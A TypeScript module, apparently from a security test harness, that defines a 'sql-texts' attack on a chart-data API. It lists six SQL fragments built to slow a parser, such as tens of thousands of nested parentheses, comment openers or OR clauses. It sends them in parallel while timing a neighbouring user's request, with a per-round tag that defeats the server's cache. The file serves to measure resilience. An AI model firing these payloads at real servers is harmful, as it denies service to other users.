import type { Attack } from '../attack.ts';
import type { AttackAnswer } from '../attack-answer.ts';
import type { Attacker } from '../attacker.ts';
import { openNeighbor, type Neighbor } from '../neighbor.ts';

const chart = (datasetId: number, where: string) => ({
  datasource: { id: datasetId, type: 'table' },
  force: true,
  queries: [{ metrics: [{ expressionType: 'SQL', sqlExpression: 'COUNT(*)', label: 'n' }], extras: { where } }],
});

/**
 * SQL texts that used to keep a parser busy for a very long time. Some of them are within the server's limits on the
 * size of SQL, others exceed them.
 */
const texts: readonly string[] = [
  `1=1 ${'/*'.repeat(30_000)}`,
  `1=1 ${'/*/'.repeat(30_000)}`,
  `1 ${'+'.repeat(90_000)} 1 = 2`,
  `${'('.repeat(45_000)}1`,
  `1 IN (${Array.from({ length: 24_000 }, (_, at) => at).join(',')})`,
  `1=1 ${' OR 1=1'.repeat(12_000)}`,
];

const roundOf = async (
  attacker: Attacker,
  { neighbor, datasetId }: { readonly neighbor: Neighbor; readonly datasetId: number },
  at: number,
): Promise<readonly AttackAnswer[]> => {
  // Send a different text in each round, because the server caches which texts are allowed.
  const attacks = texts.map((text) =>
    attacker.send({ method: 'POST', path: '/api/v1/chart/data', body: chart(datasetId, `${text} -- ${at}`) }),
  );
  const own = await neighbor.send({
    method: 'POST',
    path: '/api/v1/chart/data',
    body: chart(datasetId, `2=2 -- ${at}`),
  });
  await Promise.all(attacks);
  return [own];
};

/**
 * SQL fragments that are expensive to parse, sent six at a time while another user requests a chart. The reported
 * response times are those of the other user.
 */
export const sqlTexts: Attack = {
  name: 'sql-texts',
  what: 'conditions of charts that parsers read slowly, told of another user’s chart',
  prepare: async ({ server, attacker }) => {
    const neighbor = await openNeighbor(server.url, attacker);
    const { result } = await attacker.lay<{ readonly result: readonly { readonly id: number }[] }>({
      method: 'GET',
      path: '/api/v1/dataset/',
    });
    const ground = { neighbor, datasetId: result[0]!.id };
    let at = 0;
    return () => roundOf(attacker, ground, (at += 1));
  },
};
